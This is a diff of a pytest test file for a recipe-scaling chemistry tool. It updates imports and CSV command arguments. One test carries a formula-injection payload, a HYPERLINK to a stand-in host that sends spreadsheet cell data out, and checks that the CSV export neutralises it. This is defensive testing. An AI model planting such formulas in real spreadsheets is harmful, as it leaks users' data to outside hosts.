@@ -14,18 +14,18 @@ import os
 import re
 import signal
 import stat
-from importlib import resources
 
 import pytest
 from hypothesis import given, strategies as st
 from test_robustness import AMPSI, run_cli  # tests/ is on sys.path (pytest rootdir import mode)
 
 import synth
+from synth import catalog
+from synth.audit import validate
 from synth.errors import InputError, ReactionError, RecipeError, SynthError
 from synth.recipe import load, parse
 from synth.render.cells import FORMULA_START, cell
 from synth.units import AMBIGUOUS, Q_, parse as parse_quantity
-from synth.validate import validate
 
 
 def one_line(err: str) -> bool:
@@ -164,7 +164,7 @@ def _no_part_files(folder) -> bool:
     return not [p for p in os.listdir(folder) if p.endswith(".part")]
 
 
-@pytest.mark.parametrize("command", [("scale", "--json"), ("sheet", "-f", "csv"), ("cost", "--json"),
+@pytest.mark.parametrize("command", [("scale", "--json"), ("sheet", "-f", "csv", "--table", "bom"), ("cost", "--json"),
                                      ("sweep", "--vary", "leaching.acid.excess=0..5 %:2"), ("uncertainty",),
                                      ("plan", "-b", "Si=1 g"), ("campaign", "-n", "2", "-b", "Si=1 g")])
 def test_the_input_recipe_is_never_replaced(capsys, tmp_path, command):
@@ -368,7 +368,7 @@ def test_public_functions_take_the_natural_forms():
     recipe = load("ampsi")
     by_name, _ = synth.scale("ampsi", "AMPSi@C=1 kg")
     by_quantity, _ = synth.scale(recipe, Q_(1, "kg"))
-    by_path, _ = synth.scale(str(resources.files("synth.recipes") / "ampsi.yaml"), "AMPSi@C=1000 g")
+    by_path, _ = synth.scale(str(catalog.folder() / "ampsi.yaml"), "AMPSi@C=1000 g")
     assert by_name.scale == pytest.approx(by_quantity.scale, rel=1e-12) == pytest.approx(by_path.scale, rel=1e-12)
     result = synth.equilibrate({"Mg3N2": "1 mol", "N2": "1 mol"}, "Mg3N2(cr),Mg(g),N2(g)", "1600 K")
     assert {s.name for s in result.species} == {"Mg3N2(cr)", "Mg(g)", "N2(g)"}
@@ -385,7 +385,7 @@ def test_no_cell_starts_a_formula(text):
 def test_sheet_csv_neutralises_recipe_text(capsys, tmp_path):
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     path = recipe_file(tmp_path, AMPSI.replace('grade: {text: "powder, 200 mesh"', f"grade: {{text: '{evil}'"))
-    code, out, _ = run_cli(capsys, "sheet", path, "-f", "csv", "--date", "2025-01-01")
+    code, out, _ = run_cli(capsys, "sheet", path, "-f", "csv", "--table", "bom", "--date", "2025-01-01")
     rows = list(csv.reader(io.StringIO(out)))
     assert code == 0 and ["'" + evil] == [c for r in rows for c in r if "HYPERLINK" in c]
     numbers = [c for r in rows for c in r if c[:1] == "-"]
